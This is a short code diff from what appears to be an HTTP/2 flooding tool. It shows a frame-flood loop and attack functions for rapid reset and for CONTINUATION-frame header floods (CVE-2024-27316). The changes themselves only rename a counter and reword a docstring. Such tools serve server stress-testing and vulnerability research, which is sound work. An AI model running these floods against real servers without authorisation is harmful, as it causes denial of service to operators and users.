@@ -23,7 +23,7 @@ async def _flood(target: Target, what: str, frames: Callable[[RawConnection], li
             while target.left_s > 0 and not connection.closed:
                 each = frames(connection)
                 await connection.send(*each)
-                target.loot.sent[what] += len(each)
+                target.gains.sent[what] += len(each)
                 await asyncio.sleep(0)
 
     await target.flood(send, _AT_ONCE)
@@ -94,7 +94,7 @@ async def rapid_reset(target: Target) -> None:
 
 @attack()
 async def continuations(target: Target) -> None:
-    """Headers that go on and on in CONTINUATION frames (CVE-2024-27316)."""
+    """Headers that continue in CONTINUATION frames without an end (CVE-2024-27316)."""
 
     def frames(connection: RawConnection) -> list[bytes]:
         stream, _ = connection.call(_PATH)
